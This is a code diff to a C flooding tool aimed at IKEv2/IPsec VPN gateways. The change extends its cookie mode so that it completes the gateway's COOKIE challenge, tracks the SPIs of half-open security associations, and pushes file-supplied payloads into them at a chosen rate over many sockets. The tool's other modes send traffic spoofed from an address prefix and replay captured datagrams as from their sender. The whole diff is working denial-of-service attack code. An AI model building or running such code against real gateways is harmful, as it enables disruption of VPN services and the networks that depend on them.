@@ -6,9 +6,10 @@
  *
  *   flood send FILE PREFIX/BITS ADDRESS PORT AT COUNT RATE SECONDS
  *       what FILE holds, each time with COUNT other bytes from AT on, from any address of the prefix
- *   flood cookies FILE ADDRESS PORT SOCKETS RATE SECONDS
+ *   flood cookies FILE ADDRESS PORT SOCKETS RATE SECONDS [FILE]
  *       IKE_SA_INIT requests that are sent again with the COOKIE that the gateway asks for (RFC 7296
- *       section 2.6)
+ *       section 2.6); with what the second file holds, most go on with that, for any of the SAs that
+ *       are half open by now
  *   flood replay ADDRESS PORT RATE SECONDS
  *       the first datagram that passes by on the way there, again and again, as from its sender
  */
@@ -32,6 +33,10 @@
 #define IKE_HEADER   28u
 #define NOTIFY       41
 #define COOKIE       16390
+#define IKE_SA_INIT  34
+#define SA_PAYLOAD   33
+#define RESPONSE     0x20
+#define MOST_SAS     1024u
 #define HEAD_BYTES   (sizeof(struct iphdr) + sizeof(struct udphdr))
 
 static uint8_t text[MOST_BYTES];
@@ -60,15 +65,20 @@ static int fail(const char *what)
 	return 1;
 }
 
-static int load(const char *path)
+static int load_into(const char *path, uint8_t *bytes, size_t *count)
 {
 	FILE *file = fopen(path, "rb");
 
 	if (!file)
 		return fail(path);
-	text_bytes = fread(text, 1, sizeof(text), file);
+	*count = fread(bytes, 1, MOST_BYTES, file);
 	fclose(file);
 	return 0;
+}
+
+static int load(const char *path)
+{
+	return load_into(path, text, &text_bytes);
 }
 
 /* How many may be out by now; waits a little where that are none more. */
@@ -163,6 +173,43 @@ static int with_cookie(int fd, const uint8_t *answer, size_t bytes)
 	return send(fd, again, text_bytes + length, MSG_DONTWAIT) > 0;
 }
 
+/* SAs that are half open: their two SPIs, and by which socket; newer ones take the place of older.
+ */
+static struct {
+	uint8_t spis[16];
+	int fd;
+} half_open[MOST_SAS];
+static size_t half_open_count;
+/* What goes to them. */
+static uint8_t inside[MOST_BYTES];
+static size_t inside_bytes;
+
+static void note_half_open(int fd, const uint8_t *answer, size_t bytes)
+{
+	if (bytes < IKE_HEADER || answer[16] != SA_PAYLOAD || answer[18] != IKE_SA_INIT ||
+		!(answer[19] & RESPONSE))
+		return;
+	memcpy(half_open[half_open_count % MOST_SAS].spis, answer, 16);
+	half_open[half_open_count++ % MOST_SAS].fd = fd;
+}
+
+static int send_inside(void)
+{
+	const size_t known = half_open_count < MOST_SAS ? half_open_count : MOST_SAS;
+	const size_t which = any() % known;
+
+	memcpy(inside, half_open[which].spis, 16);
+	return send(half_open[which].fd, inside, inside_bytes, MSG_DONTWAIT) > 0;
+}
+
+static int send_init(int fd)
+{
+	const uint64_t spi = any();
+
+	memcpy(text, &spi, sizeof(spi));
+	return send(fd, text, text_bytes, MSG_DONTWAIT) > 0;
+}
+
 static int cookies(char **words)
 {
 	static struct pollfd ready[MOST_SOCKETS];
@@ -174,6 +221,8 @@ static int cookies(char **words)
 
 	if (load(words[0]) != 0 || inet_pton(AF_INET, words[1], &to.sin_addr) != 1)
 		return 1;
+	if (words[6] && load_into(words[6], inside, &inside_bytes) != 0)
+		return 1;
 	for (int i = 0; i < count; i++) {
 		ready[i] = (struct pollfd){.fd = socket(AF_INET, SOCK_DGRAM, 0), .events = POLLIN};
 		if (connect(ready[i].fd, (const struct sockaddr *)&to, sizeof(to)) < 0)
@@ -183,17 +232,19 @@ static int cookies(char **words)
 		uint8_t answer[MOST_BYTES];
 
 		for (long due = allowance(began, rate, sent); due > 0; due--) {
-			const uint64_t spi = any();
+			const bool goes_on = inside_bytes && half_open_count && any() % 32;
 
-			memcpy(text, &spi, sizeof(spi));
-			sent += send(ready[sent % count].fd, text, text_bytes, MSG_DONTWAIT) > 0;
+			sent += goes_on ? send_inside() : send_init(ready[sent % count].fd);
 		}
 		if (poll(ready, (nfds_t)count, 0) <= 0)
 			continue;
 		for (int i = 0; i < count; i++)
 			for (ssize_t n;
 				(n = recv(ready[i].fd, answer, sizeof(answer), MSG_DONTWAIT)) > 0;)
-				proven += with_cookie(ready[i].fd, answer, (size_t)n);
+				if (with_cookie(ready[i].fd, answer, (size_t)n))
+					proven++;
+				else
+					note_half_open(ready[i].fd, answer, (size_t)n);
 	}
 	printf("%ld %ld\n", sent, proven);
 	return 0;
@@ -230,7 +281,7 @@ int main(int count, char **words)
 {
 	if (count == 10 && strcmp(words[1], "send") == 0)
 		return send_many(words + 2);
-	if (count == 8 && strcmp(words[1], "cookies") == 0)
+	if ((count == 8 || count == 9) && strcmp(words[1], "cookies") == 0)
 		return cookies(words + 2);
 	if (count == 6 && strcmp(words[1], "replay") == 0)
 		return replay(words + 2);
